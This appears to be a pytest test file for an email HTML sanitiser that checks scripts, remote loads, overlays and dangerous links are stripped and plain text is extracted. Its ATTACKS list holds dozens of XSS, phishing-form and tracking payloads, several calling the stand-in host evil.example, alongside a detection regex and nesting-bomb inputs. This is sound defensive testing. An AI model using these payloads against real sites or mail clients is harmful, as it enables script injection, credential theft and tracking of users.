"""HTML of mails: what runs, loads, covers or leaves is gone; what is said stays."""

import re
import time

import pytest

from mail.html import cleaned, text_of

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x.gif)'>x</p>",
    "<p style='background-image:\\75rl(//evil.example/x.gif)'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9999;width:100%;height:100%'>x</p>",
    "<p style='margin:-9999px'>x</p>",
    "<td background=//evil.example/x.gif>x</td>",
    "<img srcset='//evil.example/x.gif 2x'>",
    "<video poster=//evil.example/x.gif src=//evil.example/x.mp4></video>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<x:script>alert(1)</x:script>",
    "<p id=location name=cookie class=admin>x</p>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<img src=`javascript:alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<\x00script>alert(1)</\x00script>",
)
FORBIDDEN = re.compile(
    r"<(?:script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|video|noscript|textarea)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:text|data:image/svg|url\(|expression|position\s*:|z-index|srcset|poster|background="
    r"|\s(?:src|href)=\"(?:https?:)?//evil|\sid=|\sclass=|\sname=|-9999|\\75",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_covers_or_leaves(attack: str) -> None:
    markup = " ".join(re.findall(r"<[^>]*>", cleaned(f"<p>before</p>{attack}<p>after</p>", {}).html))
    outside_titles = re.sub(r'(?:title|alt|data-remote-src)="[^"]*"', "", markup)
    assert not FORBIDDEN.search(outside_titles)


@pytest.mark.parametrize(
    "url",
    [
        "\x01data:text/html,x",
        "da&#10;ta:text/html,x",
        "&#9;javascript:x",
        "java&Tab;script:x",
        "/api/v1/session",
        "//evil.example",
        "x",
        "#x",
    ],
)
def test_links_lead_only_where_they_say(url: str) -> None:
    assert "href" not in cleaned(f"<a href='{url}'>x</a>", {}).html
    assert "src=" not in cleaned(f"<img src='{url}'>", {}).html.replace("data-remote-src", "")


def test_the_guard_finds_what_is_not_cleaned() -> None:
    uncleaned = [attack for attack in ATTACKS if FORBIDDEN.search(" ".join(re.findall(r"<[^>]*>", attack)))]
    assert len(uncleaned) >= 30


def test_remote_images_wait() -> None:
    clean = cleaned(
        '<img src="https://a.example/1.gif" alt="lamp"><img src="//b.example/2.gif"><img SRC=" http://c.example/3">', {}
    )
    assert clean.remote_images == 3
    assert ' src="' not in clean.html
    assert 'data-remote-src="https://a.example/1.gif"' in clean.html
    assert 'data-remote-src="https://b.example/2.gif"' in clean.html
    assert 'alt="lamp"' in clean.html


def test_images_in_the_mail_get_our_address() -> None:
    clean = cleaned(
        '<img src="cid:p1@x"><img src="cid:gone@x"><img src="data:image/png;base64,iVBO">',
        {"p1@x": "/api/v1/files/fil_1"},
    )
    assert 'src="/api/v1/files/fil_1"' in clean.html
    assert "cid:" not in clean.html
    assert 'src="data:image/png;base64,iVBO"' in clean.html
    assert clean.remote_images == 0


def test_a_mail_cannot_pretend_that_an_image_waits() -> None:
    assert "evil" not in cleaned('<img data-remote-src="javascript:evil()">', {}).html


def test_fonts_keep_their_hyphen() -> None:
    clean = cleaned(
        '<p style="font-family: Arial, sans-serif; margin: 0 -9px; background-color: rgba(1, 2, 3, .5)">x</p>', {}
    ).html
    assert clean == '<p style="font-family:arial, sans-serif;background-color:rgba(1, 2, 3, .5)">x</p>'


def test_looks_and_links_stay() -> None:
    clean = cleaned('<p style="color: red; font-weight:bold">a <a href="https://b.example">b</a></p>', {}).html
    assert clean == (
        '<p style="color:red;font-weight:bold">a <a href="https://b.example" target="_blank" rel="noopener noreferrer nofollow">b</a></p>'
    )


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<ul><li>one<li>two</ul>", "- one\n- two"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("a &lt;b&gt; &amp; c&nbsp;d", "a <b> & c d"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("  a \n\n  b  ", "a b"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("<p title='>'>x</p>", "x"),
        ("<p title='open>x", "x"),
        ("<style>p{}</style><title>t</title>x<!-- y -->z", "xz"),
        ("<!-- open x", "x"),
    ],
)
def test_text(source: str, text: str) -> None:
    found = text_of(source)
    assert found == text or (source == "<!-- open x" and "x" in found)


def test_cleaning_is_quick_at_any_depth() -> None:
    for bomb in (
        "<div>" * 100_000,
        "<a><b>" * 80_000,
        "<table><tr><td>" * 40_000,
        "<p style='" + "color:red;" * 50_000 + "'>x",
    ):
        started = time.process_time()
        cleaned(bomb, {})
        assert time.process_time() - started < 2
